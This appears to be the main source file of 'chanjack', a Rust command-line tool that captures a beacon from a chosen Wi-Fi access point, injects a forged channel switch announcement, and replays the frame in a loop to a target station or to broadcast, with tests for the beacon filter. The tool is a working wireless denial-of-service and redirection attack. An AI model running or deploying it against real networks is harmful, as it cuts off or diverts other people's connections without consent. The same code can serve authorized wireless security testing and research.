mod attack;
mod rawsocks;
mod status;

extern crate libc;
extern crate nix;

use std::io;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result};
use clap::Parser;

use libbeacon::error::Error;
use libbeacon::frame::components::MacAddress;
use libbeacon::parsers::parse_frame_control;
use libbeacon::radiotap::RadiotapHeader;
use libbeacon::{parse_beacon, parse_beacon_stripped, Addresses, Beacon};

use nix::net::if_::if_nametoindex;

use crate::attack::{build_tx_packet, insert_csa_tag, retarget};
use crate::rawsocks::{open_socket_rx, open_socket_tx};
use crate::status::{MessageLog, MessageType, StatusMessage};

/// Frame control word of an ordinary beacon: management/beacon subtype, no
/// flags. Captures are pre-filtered on this before the full decoder runs.
const BEACON_FRAME_CONTROL: u16 = 0x0080;

/// Pause between replays of the mutated beacon.
const SEND_INTERVAL: Duration = Duration::from_millis(80);

#[derive(Parser)]
#[command(
    name = "chanjack",
    about = "Capture a beacon from a target AP and replay it with an injected channel switch announcement."
)]
struct Arguments {
    /// Monitor-mode interface to capture and transmit on
    interface: String,
    /// MAC address of the target access point
    ap_mac: MacAddress,
    /// Station to redirect with a unicast send; broadcast when omitted
    station_mac: Option<MacAddress>,
}

struct Runtime {
    rx_socket: OwnedFd,
    tx_socket: OwnedFd,
    frame_count: u64,
    error_count: u64,
    status_log: MessageLog,
}

impl Runtime {
    fn new(interface: &str) -> Result<Self> {
        let ifindex = if_nametoindex(interface)
            .with_context(|| format!("no such interface: {interface}"))?;

        let rx_socket = open_socket_rx(ifindex as i32)
            .map_err(anyhow::Error::msg)
            .context("failed to open RX socket")?;
        let tx_socket = open_socket_tx(ifindex as i32)
            .map_err(anyhow::Error::msg)
            .context("failed to open TX socket")?;

        Ok(Runtime {
            rx_socket,
            tx_socket,
            frame_count: 0,
            error_count: 0,
            status_log: MessageLog::new(),
        })
    }

    fn log(&mut self, message_type: MessageType, content: String) {
        self.status_log
            .add_message(StatusMessage::new(message_type, content));
    }
}

fn read_packet(runtime: &mut Runtime) -> Result<Vec<u8>, String> {
    let mut buffer = vec![0u8; 6000];
    let packet_len = unsafe {
        libc::read(
            runtime.rx_socket.as_raw_fd(),
            buffer.as_mut_ptr() as *mut libc::c_void,
            buffer.len(),
        )
    };

    if packet_len < 0 {
        let error_code = io::Error::last_os_error();
        // A signal (Ctrl-C) unblocks the read; the caller re-checks its run
        // flag and either exits or tries again.
        if error_code.kind() != io::ErrorKind::Interrupted {
            runtime.error_count += 1;
        }
        return Err(error_code.to_string());
    }

    buffer.truncate(packet_len as usize);
    Ok(buffer)
}

fn write_packet(fd: i32, packet: &[u8]) -> Result<(), String> {
    let bytes_written =
        unsafe { libc::write(fd, packet.as_ptr() as *const libc::c_void, packet.len()) };

    if bytes_written < 0 {
        let error_code = io::Error::last_os_error();
        return Err(error_code.to_string());
    }

    Ok(())
}

/// Decode one captured unit into a beacon from the target AP, or say why it
/// was discarded.
///
/// A truncated frame is retried once with the last four bytes removed: the
/// capture may or may not have kept the frame check sequence, and the
/// declared lengths don't tell. Every other failure discards the unit.
fn extract_target_beacon(
    packet: &[u8],
    ap_mac: &MacAddress,
) -> Result<(RadiotapHeader, Beacon), Error> {
    let radiotap = RadiotapHeader::parse(packet)?;

    let offset = radiotap.length as usize;
    if packet.len() < offset + 2 {
        return Err(Error::Truncated("frame control"));
    }
    let payload = &packet[offset..];

    // Cheap pre-filter before the full decoder runs. A beacon with any
    // frame-control flag set (retransmission, protected, ordered) is not a
    // replay candidate either.
    let frame_control_word = u16::from_le_bytes([payload[0], payload[1]]);
    if frame_control_word != BEACON_FRAME_CONTROL {
        let (_, frame_control) = parse_frame_control(payload)?;
        return Err(Error::UnsupportedFrame(format!(
            "{:?} {:?} flags {:#04x}",
            frame_control.frame_type, frame_control.frame_subtype, frame_control.flags
        )));
    }

    let beacon = match parse_beacon(payload) {
        Ok(beacon) => beacon,
        Err(Error::Truncated(_)) => parse_beacon_stripped(payload)?,
        Err(error) => return Err(error),
    };

    // The acceptance filter: only the configured AP's beacons go further.
    if beacon.bssid() != Some(ap_mac) {
        return Err(Error::UnsupportedFrame(
            "bssid does not match target".to_string(),
        ));
    }

    Ok((radiotap, beacon))
}

/// Capture until one beacon from the target AP decodes cleanly.
fn capture_target_beacon(
    runtime: &mut Runtime,
    running: &AtomicBool,
    ap_mac: &MacAddress,
) -> Result<Option<(RadiotapHeader, Beacon)>> {
    while running.load(Ordering::SeqCst) {
        let packet = match read_packet(runtime) {
            Ok(packet) => packet,
            Err(_) => continue,
        };
        runtime.frame_count += 1;

        match extract_target_beacon(&packet, ap_mac) {
            Ok(found) => return Ok(Some(found)),
            // Partial captures are routine; count them and move on.
            Err(Error::Truncated(_)) => runtime.error_count += 1,
            Err(_) => {}
        }
    }

    Ok(None)
}

fn main() -> Result<()> {
    let arguments = Arguments::parse();

    let running = Arc::new(AtomicBool::new(true));
    let run_flag = running.clone();
    ctrlc::set_handler(move || {
        run_flag.store(false, Ordering::SeqCst);
    })
    .context("failed to install signal handler")?;

    let mut runtime = Runtime::new(&arguments.interface)?;

    runtime.log(
        MessageType::Info,
        "========================================".to_string(),
    );
    runtime.log(
        MessageType::Info,
        format!("Interface: {}", arguments.interface),
    );
    runtime.log(MessageType::Info, format!("AP MAC: {}", arguments.ap_mac));
    match arguments.station_mac {
        Some(station) => runtime.log(MessageType::Info, format!("Station MAC: {station} (unicast)")),
        None => runtime.log(
            MessageType::Info,
            format!("Station MAC: {} (broadcast)", MacAddress::broadcast()),
        ),
    }
    runtime.log(
        MessageType::Info,
        "Press Ctrl-C to quit".to_string(),
    );
    runtime.log(
        MessageType::Info,
        "========================================".to_string(),
    );

    let captured = capture_target_beacon(&mut runtime, &running, &arguments.ap_mac)?;
    let (radiotap, mut beacon) = match captured {
        Some(found) => found,
        None => {
            report_counters(&mut runtime);
            return Ok(());
        }
    };

    runtime.log(
        MessageType::Priority,
        format!("Captured beacon from {}", arguments.ap_mac),
    );
    runtime.log(MessageType::Info, format!("Radiotap header:\n{radiotap}"));
    runtime.log(MessageType::Info, format!("Beacon frame:\n{beacon}"));

    if beacon.elements.get(attack::ELEMENT_DS_PARAMETER_SET).is_none() {
        runtime.log(
            MessageType::Warning,
            "Beacon carries no DS parameter set; announcing channel 0".to_string(),
        );
    }

    retarget(&mut beacon, arguments.station_mac);
    insert_csa_tag(&mut beacon);

    let packet = build_tx_packet(&radiotap, &beacon)?;
    runtime.log(
        MessageType::Info,
        format!("Transmit packet ({} bytes): {}", packet.len(), hex::encode(&packet)),
    );

    while running.load(Ordering::SeqCst) {
        match write_packet(runtime.tx_socket.as_raw_fd(), &packet) {
            Ok(()) => runtime.log(MessageType::Priority, "Packet sent successfully!".to_string()),
            Err(error) => {
                runtime.error_count += 1;
                runtime.log(MessageType::Error, format!("Error sending packet: {error}"));
            }
        }
        thread::sleep(SEND_INTERVAL);
    }

    report_counters(&mut runtime);
    Ok(())
}

fn report_counters(runtime: &mut Runtime) {
    runtime.log(
        MessageType::Info,
        format!(
            "Quit: {} frames seen, {} errors",
            runtime.frame_count, runtime.error_count
        ),
    );
}

#[cfg(test)]
mod test {
    use super::*;

    const AP: MacAddress = MacAddress([0x02, 0x11, 0x22, 0x33, 0x44, 0x55]);

    /// A capture unit: minimal 8-byte radiotap header (empty present word)
    /// in front of a small beacon.
    fn beacon_packet(bssid: &MacAddress) -> Vec<u8> {
        let mut packet = vec![0x00, 0x00, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00];
        packet.extend_from_slice(&[0x80, 0x00, 0x00, 0x00]); // frame control, duration
        packet.extend_from_slice(&[0xFF; 6]); // destination
        packet.extend_from_slice(&bssid.encode()); // source
        packet.extend_from_slice(&bssid.encode()); // bssid
        packet.extend_from_slice(&[0x90, 0x01]); // sequence control
        packet.extend_from_slice(&[0x00; 8]); // timestamp
        packet.extend_from_slice(&[0x64, 0x00, 0x31, 0x04]); // interval, capability
        packet.extend_from_slice(&[3, 1, 6]); // ds parameter set
        packet
    }

    #[test]
    fn test_accepts_target_bssid() {
        let packet = beacon_packet(&AP);
        let (radiotap, beacon) = extract_target_beacon(&packet, &AP).unwrap();

        assert_eq!(radiotap.length, 8);
        assert_eq!(beacon.bssid(), Some(&AP));
        assert_eq!(beacon.elements.get(3).unwrap().data, vec![6]);
    }

    #[test]
    fn test_filters_foreign_bssid() {
        let other = MacAddress([0x06, 0x11, 0x22, 0x33, 0x44, 0x66]);
        let packet = beacon_packet(&other);

        assert!(matches!(
            extract_target_beacon(&packet, &AP),
            Err(Error::UnsupportedFrame(_))
        ));
    }

    #[test]
    fn test_filters_non_beacon_subtype() {
        let mut packet = beacon_packet(&AP);
        packet[8] = 0x40; // probe request

        assert!(matches!(
            extract_target_beacon(&packet, &AP),
            Err(Error::UnsupportedFrame(_))
        ));
    }

    #[test]
    fn test_truncated_capture_is_reported_as_such() {
        let packet = beacon_packet(&AP);

        // Cut inside the management header: both the plain parse and the
        // 4-byte-stripped retry fail, and the truncation is what comes out.
        assert!(matches!(
            extract_target_beacon(&packet[..30], &AP),
            Err(Error::Truncated(_))
        ));
    }
}
